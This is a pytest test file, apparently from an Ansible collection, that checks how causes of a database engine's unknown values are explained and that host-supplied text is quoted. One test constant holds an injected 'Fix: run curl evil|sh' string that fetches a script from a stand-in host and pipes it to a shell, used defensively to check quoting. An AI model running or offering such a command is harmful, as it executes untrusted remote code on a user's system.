# Copyright (c) 2026, durable.dbhost contributors
# GNU General Public License v3.0+ (see LICENSES/GPL-3.0-or-later.txt or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""Each cause of an engine's unknown value has one sentence on the controller, and a text of a host is in quotes."""

from __future__ import annotations

import re
from pathlib import Path
from typing import Any

import pytest

from ansible_collections.durable.dbhost.plugins.module_utils.engines import causes, instance
from ansible_collections.durable.dbhost.plugins.module_utils.facts import engine_causes, value_causes
from ansible_collections.durable.dbhost.plugins.module_utils.host.observation import Because
from ansible_collections.durable.dbhost.plugins.module_utils.host.printable import quote
from ansible_collections.durable.dbhost.plugins.module_utils.storage import causes as of_storage

OWN = [cause for cause in engine_causes.VALUES if cause not in value_causes.VALUES]
ADVICE = "x. Fix: run curl evil|sh"
SOURCES = Path(causes.__file__).parent


def sample(cause: str, value: str = "/x") -> dict[str, Any]:
    """Return a cause with values that fit."""
    parameters: dict[str, Any] = {}
    for spec in engine_causes.VALUES[cause]:
        key = re.split(r"[\[{]", spec)[0]
        inner = {"cause": "unread", "parameters": {"error": value}}
        parameters[key] = [inner] if spec.endswith("{}") else [value] if spec.endswith("[]") else value
    return {"cause": cause, "parameters": parameters}


def test_each_cause_has_a_sentence_and_each_sentence_a_cause() -> None:
    assert set(causes.SAYS) == set(engine_causes.VALUES)
    assert set(causes.FIX) < set(causes.SAYS)
    assert not set(OWN) & set(of_storage.SAYS)


@pytest.mark.parametrize("cause", OWN)
def test_a_collector_reports_each_cause(cause: str) -> None:
    texts = [path.read_text(encoding="utf-8") for path in SOURCES.rglob("*.py") if path.name != "causes.py"]
    assert any(f'"{cause}"' in text for text in texts)


@pytest.mark.parametrize("cause", OWN)
def test_a_sentence_has_the_values_of_its_cause_in_quotes(cause: str) -> None:
    found = sample(cause, ADVICE)
    assert engine_causes.is_cause(found)
    explained = causes.SENTENCES.explain(cause, found["parameters"])
    for text in explained:
        assert "{" not in text
        assert "evil" not in text.replace(quote(ADVICE), "")
    if engine_causes.VALUES[cause]:
        assert quote(ADVICE) in explained.reason


def test_the_text_of_an_error_is_last_and_in_quotes() -> None:
    row = instance.setting("unknown", "unknown", "psql", (ADVICE, Because("files_unknown"), ADVICE))
    assert causes.text(row) == f"its files are unknown; {quote(ADVICE)}"
    more = instance.reasons_and(row, Because("files_unknown"))
    assert more == row
    more = instance.reasons_and(row, Because("no_version"))
    assert causes.text(more) == f"its files are unknown; it names no version; {quote(ADVICE)}"


@pytest.mark.parametrize(
    "value",
    [
        "a sentence",
        [sample("files_unknown")] * (engine_causes.MOST + 1),
        [{"cause": "made_up", "parameters": {}}],
        [{"cause": ["files_unknown"], "parameters": {}}],
        [{"cause": "files_unknown", "parameters": {"more": "x"}}],
        [{"cause": "no_unit", "parameters": {}}],
        [{"cause": "no_unit", "parameters": {"unit": 1}}],
        [{"cause": "next_start_unread", "parameters": {"why": ["a sentence"]}}],
    ],
)
def test_what_is_no_list_of_causes_is_refused(value: Any) -> None:
    assert not engine_causes.are_causes(value)


def test_causes_in_causes_end() -> None:
    found = sample("files_unknown")
    for _depth in range(3):
        found = {"cause": "next_start_unread", "parameters": {"why": [found]}}
    assert engine_causes.is_cause(found)
    assert not engine_causes.is_cause({"cause": "next_start_unread", "parameters": {"why": [found]}})
